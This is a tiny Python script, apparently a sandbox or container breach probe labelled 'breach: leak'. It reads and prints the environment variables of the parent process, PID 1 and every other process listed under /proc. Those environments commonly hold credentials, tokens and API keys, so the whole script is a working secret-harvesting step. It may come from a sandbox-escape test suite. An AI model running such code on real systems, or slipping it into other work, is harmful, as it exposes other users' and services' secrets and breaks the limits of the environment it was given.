# /proc/<ppid>/environ of the host.
# breach: leak
import os
for p in {os.getppid(), 1, *[int(x) for x in os.listdir('/proc') if x.isdigit()]}:
    try: print(open('/proc/%d/environ' % p).read())
    except Exception as e: print(p, e)
